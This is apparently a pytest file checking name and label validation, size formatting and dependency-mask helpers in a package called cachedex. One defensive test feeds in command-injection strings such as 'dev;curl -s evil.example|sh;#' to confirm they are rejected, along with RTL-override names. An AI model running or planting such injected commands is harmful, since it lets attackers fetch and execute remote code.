"""Small shared values: names that may become folders, sizes for people, deptype masks."""

from __future__ import annotations

import pytest

from cachedex.values import (
    DEPTYPE_BITS,
    LINK_RUN,
    check_label,
    check_name,
    decode_variants,
    deptypes_from_mask,
    deptypes_to_mask,
    human_size,
    is_dag_hash,
    short_repr,
    size_change_text,
)


@pytest.mark.parametrize(
    ("name", "problem"),
    [
        ("develop", None),
        ("v2026.06.0", None),
        ("ml-linux-x86_64-cuda", None),
        ("", "must not be empty"),
        ("a/b", "must not contain '/'"),
        ("a\\b", "must not contain '/'"),
        ("..", "must not contain '..'"),
        (".hidden", "must not start with '.'"),
        ("tab\there", "control"),
        (12, "expected a string"),
        pytest.param("gnp\u202eexe", "invisible", id="COS-6-rtl-override"),
        pytest.param("zero\u200bwidth", "invisible", id="COS-6-zero-width"),
        pytest.param("\ud7fc", "unassigned", id="unassigned-code-point"),
        pytest.param("lone\ud800", "unassigned", id="lone-surrogate"),
        ("zlib-ng", None),
        ("py-ünicode", None),
        pytest.param("a" * 256, "longer than 255 bytes", id="CRASH-11-long-name"),
        pytest.param("é" * 128, "longer than 255 bytes", id="CRASH-11-long-in-utf8"),
        ("a" * 255, None),
    ],
)
def test_check_name(name: object, problem: str | None) -> None:
    found = check_name(name)
    assert (found is None) if problem is None else (problem in (found or ""))


@pytest.mark.parametrize(
    "name",
    ["dev;curl -s evil.example|sh;#", "e4s$(id>~.pwned)", "a b", "`x`", "x'y", "-rf", "tag\n"],
)
def test_sec3_tag_and_stack_names_hold_no_shell_syntax(name: str) -> None:
    assert check_label(name) is not None


@pytest.mark.parametrize("name", ["develop", "develop-2025-07-13", "v0.22.1", "ml-linux-x86_64-cuda", "v1.0+rc1"])
def test_ordinary_labels_are_accepted(name: str) -> None:
    assert check_label(name) is None


def test_hang2_messages_quote_huge_values_briefly() -> None:
    bomb: list[object] = ["lol"] * 9
    for _ in range(8):
        bomb = [bomb] * 9  # 387 million strings if expanded
    assert len(short_repr(bomb)) < 100
    assert len(check_name(bomb) or "") < 150
    assert short_repr("x" * 10_000).startswith("'xxx") and len(short_repr("x" * 10_000)) < 100


@pytest.mark.parametrize(
    ("size", "shown"),
    [
        (None, "-"),
        (0, "0 B"),
        (999, "999 B"),
        (1000, "1.0 kB"),
        (12_345_678, "12.3 MB"),
        (2 * 10**12, "2.0 TB"),
        # Rounded up to the next unit, not "1000.0 kB"
        (999_949, "999.9 kB"),
        (999_960, "1.0 MB"),
        (999_950_000, "1.0 GB"),
        (999_999_999_999, "1.0 TB"),
    ],
)
def test_human_size(size: int | None, shown: str) -> None:
    assert human_size(size) == shown


@pytest.mark.parametrize(
    ("change", "sized", "count", "shown"),
    [
        (0, 0, 5, "size unknown"),  # not "±0 B": nothing is known
        (2_000, 3, 3, "+2.0 kB"),
        (-2_000, 2, 3, "−2.0 kB (2 of 3 sizes known)"),
        (0, 4, 4, "±0 B"),
    ],
)
def test_a_size_change_says_how_many_sizes_it_knows(change: int, sized: int, count: int, shown: str) -> None:
    assert size_change_text(change, sized, count) == shown


def test_deptype_masks_round_trip() -> None:
    assert deptypes_to_mask(["build", "link", "nonsense"]) == 3
    assert deptypes_to_mask("run") == 4 and deptypes_to_mask(None) == 0
    assert deptypes_from_mask(0b1111) == tuple(DEPTYPE_BITS)
    assert deptypes_to_mask(("link", "run")) == LINK_RUN


def test_dag_hashes_and_variants() -> None:
    assert is_dag_hash("u5uz3dcch5if4eve4sef67o2rf2lbfgh")
    assert not is_dag_hash("U5UZ3DCCH5IF4EVE4SEF67O2RF2LBFGH") and not is_dag_hash("short") and not is_dag_hash(None)
    assert decode_variants('["+mpi","cuda_arch:=80"]') == ("+mpi", "cuda_arch:=80")


def test_json_visible_escapes_what_hides_text_and_parses_to_the_same() -> None:
    import json

    from cachedex.values import json_visible

    values = ["a\u202eb", "\x85x", "zero\u200bwidth", "plain", "naïve"]
    text = json_visible(json.dumps(values, ensure_ascii=False))
    assert json.loads(text) == values and "\u202e" not in text and "\x85" not in text and "naïve" in text
